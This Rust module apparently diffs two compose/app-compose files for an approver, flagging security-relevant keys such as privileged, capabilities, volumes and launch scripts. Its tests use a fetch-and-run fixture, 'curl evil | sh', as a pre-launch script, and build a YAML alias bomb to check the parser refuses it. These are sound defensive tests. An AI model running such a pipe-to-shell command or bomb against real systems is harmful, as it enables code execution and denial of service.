//! What changes between two compose files, in the words of somebody who has to approve the second one.
//!
//! Spec: docs/spec/simulate.md [SIM-12]. Images, environment, volumes, ports, devices, privileges, networks, and whatever
//! else differs, down to the last key. Trusts: nothing; YAML is read with the parser's own limits.

use serde_json::{Map, Value};
use std::collections::BTreeSet;

/// Differences of one pair of files; more are a rewrite that nobody reads line by line.
const MAX_CHANGES: usize = 1_000;

/// One difference.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Change {
    /// `services.web.image`.
    pub place: String,
    /// What stood there; `None`: nothing.
    pub before: Option<String>,
    /// What stands there now; `None`: nothing.
    pub after: Option<String>,
    /// Why it matters.
    pub words: &'static str,
    /// Whether it may widen what the code can do, or who runs.
    pub attention: bool,
}

/// Why a file can't be compared.
#[derive(Debug, thiserror::Error)]
pub enum ReviewError {
    /// The parser's words.
    #[error("not YAML: {0}")]
    Yaml(String),
    /// It runs nothing.
    #[error("no mapping of services")]
    NoServices,
    /// A rewrite.
    #[error("more than {MAX_CHANGES} differences")]
    TooManyChanges,
}

/// What an auditor has to know about a key of a service; what is not here is compared all the same.
pub(super) const SERVICE_KEYS: [(&str, &str, bool); 29] = [
    ("image", "another image runs", true),
    ("build", "it is built on the machine: nothing of it is in the hash", true),
    ("environment", "environment of the service", false),
    ("env_file", "environment from files that the hash does not hold", true),
    ("volumes", "what it can read or write outside of its container", true),
    ("ports", "who can reach it from outside", true),
    ("expose", "who can reach it from other containers", false),
    ("devices", "devices of the machine that it may use", true),
    ("privileged", "privileged: it can do whatever the machine can", true),
    ("cap_add", "rights of the kernel that it gains", true),
    ("cap_drop", "rights of the kernel that it gives up", true),
    ("security_opt", "its confinement", true),
    ("network_mode", "which network it is in", true),
    ("networks", "which networks it is in", true),
    ("pid", "whose processes it sees", true),
    ("ipc", "whose memory it shares", true),
    ("userns_mode", "whose user ids it has", true),
    ("user", "as which user it runs", true),
    ("command", "what it runs", true),
    ("entrypoint", "what it runs", true),
    ("configs", "configuration that it is given", true),
    ("secrets", "secrets that it is given", true),
    ("extra_hosts", "which names lead where", true),
    ("depends_on", "the order of start", false),
    ("mem_limit", "how much memory it may use", false),
    ("cpus", "how many processors it may use", false),
    ("pids_limit", "how many processes it may have", false),
    ("read_only", "whether it can write into its own image", false),
    ("restart", "whether it starts again when it ends", false),
];

/// What an auditor has to know about a key of app-compose.json.
pub(super) const APP_KEYS: [(&str, &str, bool); 15] = [
    ("manifest_version", "the form of this file", false),
    ("name", "its name, for people", false),
    ("runner", "what runs the services", true),
    ("quorate", "which network, keyset and app it asks for keys", true),
    ("allowed_envs", "variables that whoever runs the machine may set", true),
    ("pre_launch_script", "a script that runs before everything else", true),
    ("init_script", "a script that runs before everything else", true),
    ("public_logs", "whether everybody can read its logs", true),
    ("public_sysinfo", "whether everybody can read the machine's state", false),
    ("public_tcbinfo", "whether everybody can read its attestation", false),
    ("kms_enabled", "whether dstack's own KMS gives it keys", true),
    ("local_key_provider_enabled", "whether it takes a key of the machine", true),
    ("gateway_enabled", "whether dstack's gateway leads to it", true),
    ("no_instance_id", "whether instances have ids of their own", true),
    ("secure_time", "whether it waits for a proven time", true),
];

/// Compares two docker-compose texts, and what stands around them in app-compose.json.
///
/// # Errors
/// [`ReviewError`] if one of them is no compose file, or they have too little in common.
pub fn review(before: &Value, after: &Value) -> Result<Vec<Change>, ReviewError> {
    let mut changes = Vec::new();
    around(before, after, &mut changes);
    let [old, new] = [before, after].map(|file| services(&file["docker_compose_file"]));
    let (old, new) = (old?, new?);
    for key in keys(&old, &new) {
        let (old, new) = (old.get(key), new.get(key));
        match (key.as_str(), old, new) {
            ("services", old, new) => each_service(old, new, &mut changes),
            (_, old, new) => {
                leaf(key, old, new, ("definition beside the services", true), &mut changes)
            }
        }
    }
    if changes.len() > MAX_CHANGES {
        return Err(ReviewError::TooManyChanges);
    }
    Ok(changes)
}

/// The whole docker compose document.
pub(super) fn services(text: &Value) -> Result<Map<String, Value>, ReviewError> {
    let text = text.as_str().unwrap_or_default();
    let parsed: Value =
        serde_saphyr::from_str(text).map_err(|error| ReviewError::Yaml(error.to_string()))?;
    match parsed {
        Value::Object(document) if document.get("services").is_some_and(Value::is_object) => {
            Ok(document)
        }
        _ => Err(ReviewError::NoServices),
    }
}

fn around(before: &Value, after: &Value, changes: &mut Vec<Change>) {
    let empty = Map::new();
    let [old, new] = [before, after].map(|file| file.as_object().unwrap_or(&empty));
    for key in keys(old, new).filter(|key| *key != "docker_compose_file") {
        leaf(key, old.get(key), new.get(key), known(&APP_KEYS, key), changes);
    }
}

fn each_service(before: Option<&Value>, after: Option<&Value>, changes: &mut Vec<Change>) {
    let empty = Map::new();
    let [old, new] =
        [before, after].map(|services| services.and_then(Value::as_object).unwrap_or(&empty));
    for name in keys(old, new) {
        let place = format!("services.{name}");
        match (old.get(name), new.get(name)) {
            (Some(old), Some(new)) => one_service(&place, old, new, changes),
            (old, new) => leaf(&place, old, new, ("a whole service", true), changes),
        }
    }
}

fn one_service(place: &str, before: &Value, after: &Value, changes: &mut Vec<Change>) {
    let empty = Map::new();
    let [old, new] = [before, after].map(|service| service.as_object().unwrap_or(&empty));
    for key in keys(old, new) {
        let about = known(&SERVICE_KEYS, key);
        let place = format!("{place}.{key}");
        let (old, new) = (old.get(key), new.get(key));
        match key.as_str() {
            "environment" | "labels" => pairs(&place, old, new, about, changes),
            "command" | "entrypoint" => leaf(&place, old, new, about, changes),
            _ => members(&place, old, new, about, changes),
        }
    }
}

/// `KEY=value` as a list or as a mapping: one difference per variable.
fn pairs(
    place: &str,
    before: Option<&Value>,
    after: Option<&Value>,
    about: (&'static str, bool),
    changes: &mut Vec<Change>,
) {
    let [old, new] = [before, after].map(mapping);
    for key in keys(&old, &new) {
        leaf(&format!("{place}.{key}"), old.get(key), new.get(key), about, changes);
    }
}

pub(super) fn mapping(value: Option<&Value>) -> Map<String, Value> {
    match value {
        Some(Value::Object(map)) => map.clone(),
        Some(Value::Array(items)) => items
            .iter()
            .filter_map(Value::as_str)
            .map(|item| {
                let (key, value) = item.split_once('=').unwrap_or((item, ""));
                (key.to_owned(), value.into())
            })
            .collect(),
        _ => Map::new(),
    }
}

/// A list without an order: what goes and what comes, one by one.
fn members(
    place: &str,
    before: Option<&Value>,
    after: Option<&Value>,
    about: (&'static str, bool),
    changes: &mut Vec<Change>,
) {
    let [old, new] = [before, after].map(|value| match value {
        Some(Value::Array(items)) => Some(items.iter().map(shown).collect::<BTreeSet<_>>()),
        None => Some(BTreeSet::new()),
        Some(_) => None,
    });
    let (Some(old), Some(new)) = (old, new) else {
        return leaf(place, before, after, about, changes);
    };
    let (words, attention) = about;
    let change = |before: Option<&String>, after: Option<&String>| Change {
        place: place.to_owned(),
        before: before.cloned(),
        after: after.cloned(),
        words,
        attention,
    };
    changes.extend(old.difference(&new).map(|gone| change(Some(gone), None)));
    changes.extend(new.difference(&old).map(|come| change(None, Some(come))));
}

fn leaf(
    place: &str,
    before: Option<&Value>,
    after: Option<&Value>,
    (words, attention): (&'static str, bool),
    changes: &mut Vec<Change>,
) {
    if before != after {
        let [before, after] = [before, after].map(|value| value.map(shown));
        changes.push(Change { place: place.to_owned(), before, after, words, attention });
    }
}

pub(super) fn known(table: &[(&str, &'static str, bool)], key: &str) -> (&'static str, bool) {
    let found = table.iter().find(|(name, _, _)| *name == key);
    // A key that nobody has looked at may do anything.
    found.map_or(("no key that is known here", true), |(_, words, attention)| (*words, *attention))
}

fn keys<'a>(
    old: &'a Map<String, Value>,
    new: &'a Map<String, Value>,
) -> impl Iterator<Item = &'a String> {
    old.keys().chain(new.keys()).collect::<BTreeSet<_>>().into_iter()
}

pub(super) fn shown(value: &Value) -> String {
    match value {
        Value::String(text) => text.clone(),
        other => {
            serde_json::to_string(&crate::sorted::Sorted::from(other.clone())).unwrap_or_default()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn file(compose: &str) -> Value {
        json!({ "docker_compose_file": compose, "public_logs": false })
    }

    fn places(before: &str, after: &str) -> Vec<String> {
        let changes = review(&file(before), &file(after)).unwrap();
        changes.into_iter().map(|change| change.place).collect()
    }

    const WEB: &str = "services:\n  web:\n    image: nginx@sha256:01\n    environment:\n      A: '1'\n    ports: ['80:80', '81:81']\n";

    #[test]
    fn each_change_has_its_place_and_the_order_of_a_list_is_none() {
        // [SIM-12]
        assert_eq!(places(WEB, WEB), Vec::<String>::new());
        let same = WEB
            .replace("      A: '1'\n", "      - A=1\n")
            .replace("['80:80', '81:81']", "['81:81', '80:80']");
        assert_eq!(places(WEB, &same), Vec::<String>::new());
        assert_eq!(places(WEB, &WEB.replace("sha256:01", "sha256:02")), ["services.web.image"]);
        assert_eq!(places(WEB, &WEB.replace("'1'", "'2'")), ["services.web.environment.A"]);
        assert_eq!(
            places(WEB, &format!("{WEB}    privileged: true\n")),
            ["services.web.privileged"]
        );
        assert_eq!(places(WEB, &format!("{WEB}  db:\n    image: x\n")), ["services.db"]);
        assert_eq!(places(WEB, &format!("{WEB}networks:\n  n: {{}}\n")), ["networks"]);
        let one_port = review(&file(WEB), &file(&WEB.replace(", '81:81'", ""))).unwrap();
        assert_eq!(one_port[0].before.as_deref(), Some("81:81"));
        assert_eq!((one_port.len(), &one_port[0].after), (1, &None));
    }

    #[test]
    fn anchors_do_not_hide_anything() {
        let hidden = "x: &all\n  privileged: true\nservices:\n  web:\n    image: nginx@sha256:01\n    <<: *all\n";
        let plain = "services:\n  web:\n    image: nginx@sha256:01\n";
        assert_eq!(places(plain, hidden), ["services.web.privileged", "x"]);
    }

    #[test]
    fn what_stands_around_counts_and_an_unknown_key_wants_attention() {
        let (old, mut new) = (file(WEB), file(WEB));
        new["pre_launch_script"] = json!("curl evil | sh");
        new["surprise"] = json!(1);
        let changes = review(&old, &new).unwrap();
        assert_eq!(changes.len(), 2);
        assert!(changes.iter().all(|change| change.attention));
        assert_eq!(changes[1].words, "no key that is known here");
    }

    #[test]
    fn what_is_no_compose_file_is_refused() {
        assert!(matches!(review(&file("a: ["), &file(WEB)), Err(ReviewError::Yaml(_))));
        assert!(matches!(review(&file("a: 1"), &file(WEB)), Err(ReviewError::NoServices)));
        let mut bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n".to_owned();
        for (from, to) in
            ["ab", "bc", "cd", "de", "ef", "fg", "gh", "hi"].iter().map(|s| s.split_at(1))
        {
            bomb.push_str(&format!(
                "{to}: &{to} [{0},{0},{0},{0},{0},{0},{0},{0},{0}]\n",
                format!("*{from}")
            ));
        }
        bomb.push_str("services: {}\n");
        assert!(matches!(review(&file(&bomb), &file(WEB)), Err(ReviewError::Yaml(_))));
    }
}
